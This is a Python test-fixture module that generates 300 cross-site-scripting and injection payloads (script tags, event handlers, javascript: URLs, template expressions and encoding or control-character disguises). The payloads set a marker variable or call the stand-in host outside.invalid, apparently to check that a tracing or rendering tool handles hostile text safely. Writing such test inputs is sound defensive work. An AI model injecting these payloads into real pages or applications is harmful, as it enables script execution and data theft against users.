"""Three hundred texts that try to be more than text: markup, scripts, addresses and templates, each in many disguises.

Each sets `window.pwned` where it runs, or asks `outside.invalid` for something. They are recorded as they stand, in
every field that a span has.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from urllib.parse import quote

__all__ = ["PAYLOADS"]

_RUN = "window.pwned=1"
_OUTSIDE = "https://outside.invalid"

_ACTS = [
    f"<script>{_RUN}</script>",
    f"<script src={_OUTSIDE}/x.js></script>",
    f"<script type=module>import '{_OUTSIDE}/x.js'</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_OUTSIDE}/p.png?q=secret>",
    f"<svg onload={_RUN}></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc=\"<script>parent.{_RUN.removeprefix('window.')}</script>\"></iframe>",
    f"<iframe src=javascript:parent.{_RUN.removeprefix('window.')}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_OUTSIDE}/x.swf>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_OUTSIDE}/a.mp3 autoplay onerror={_RUN}></audio>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<a href=javascript:{_RUN}>link</a>",
    f"<style>@import '{_OUTSIDE}/x.css'; *{{background:url({_OUTSIDE}/b.png)}}</style>",
    f"<link rel=stylesheet href={_OUTSIDE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_OUTSIDE}/'>",
    f"<base href={_OUTSIDE}/>",
    f"[link](javascript:{_RUN}) [data](data:text/html,<script>{_RUN}</script>)",
    f"![picture]({_OUTSIDE}/p.png) ![svg](data:image/svg+xml,<svg onload={_RUN}>)",
    f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | ![p]({_OUTSIDE}/t.png) |",
    f"```html\n</code></pre><script>{_RUN}</script>\n```",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}} #{{{_RUN}}}",
    f'{{"__html": "<img src=x onerror={_RUN}>", "dangerouslySetInnerHTML": {{"__html": "x"}}, "type": "script"}}',
]  # fmt: skip

_DISGUISES: list[Callable[[str], str]] = [
    lambda act: act,
    lambda act: f"\"'>{act}",
    lambda act: f"--></title></textarea></style></script>]]>{act}",
    lambda act: act.upper().replace("WINDOW.PWNED", "window.pwned"),
    lambda act: html.escape(act),
    lambda act: quote(act),
    lambda act: act.replace("<", "\\u003c").replace(">", "\\x3e"),
    # Controls in the middle of words, where parsers skip them.
    lambda act: act.replace("script", "scr\x00ipt").replace("java", "java\t\n\r").replace("on", "\x0con"),
    lambda act: f"\u202e{act}\u202c\u2066\u2067\u2068\u2069\u200b\ufeff",
    lambda act: f"\x1b]8;;{_OUTSIDE}\x07{act}\x1b]8;;\x07\x1b[2J\x9b31m" + "é̂̃̄" * 20 + "﷽" * 5,
]

# Numbered, because a disguise may change nothing.
PAYLOADS = [f"{text} {k}" for k, text in enumerate(disguise(act) for act in _ACTS for disguise in _DISGUISES)]
